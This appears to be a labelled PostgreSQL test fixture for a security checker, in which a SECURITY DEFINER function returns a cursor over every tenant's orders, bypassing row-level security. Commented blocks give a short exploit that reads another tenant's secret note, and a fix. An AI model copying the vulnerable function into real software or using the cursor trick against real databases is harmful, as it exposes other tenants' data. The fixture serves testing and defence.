-- verdict: leak
-- kind: secdef-cursor
-- object: public.open_orders
-- why: the definer function opens a cursor over every tenant's rows and hands it to the caller
-- severity: high
-- roles: app_owner app_user
-- exploit-begin
-- do $d$ declare r record; c refcursor := 'tap'; begin
--   perform open_orders(c);
--   loop
--     fetch c into r;
--     exit when not found;
--     perform set_config('probe.seen', coalesce(current_setting('probe.seen', true), '') || r.note, false);
--   end loop;
-- end $d$;
-- select coalesce(current_setting('probe.seen', true) like '%A-SECRET%', false) as leaked;
-- exploit-end
-- fix-begin
-- create or replace function open_orders(c refcursor) returns refcursor language plpgsql security definer set search_path = pg_catalog, pg_temp as $$
-- begin
--   open c for select note from public.orders where tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid;
--   return c;
-- end $$;
-- fix-end

do $$ begin
  if to_regrole('app_owner') is null then create role app_owner nologin; end if;
  if to_regrole('app_user') is null then create role app_user login; end if;
end $$;
grant create, usage on schema public to app_owner;
grant usage on schema public to app_user;
set role app_owner;
create table tenants (id uuid primary key, name text not null);
insert into tenants values ('00000000-0000-4000-8000-00000000000a', 'Alder'), ('00000000-0000-4000-8000-00000000000b', 'Birch');
create table orders (
  id uuid primary key default gen_random_uuid(),
  tenant_id uuid not null references tenants (id),
  note text not null
);
insert into orders (tenant_id, note) values ('00000000-0000-4000-8000-00000000000a', 'A-SECRET'), ('00000000-0000-4000-8000-00000000000b', 'b');
alter table orders enable row level security;
create policy tenant_isolation on orders using (tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid) with check (tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid);
grant select, insert, update, delete on orders to app_user;
create function open_orders(c refcursor) returns refcursor language plpgsql security definer set search_path = pg_catalog, pg_temp as $$
begin
  open c for select note from public.orders;
  return c;
end $$;
reset role;
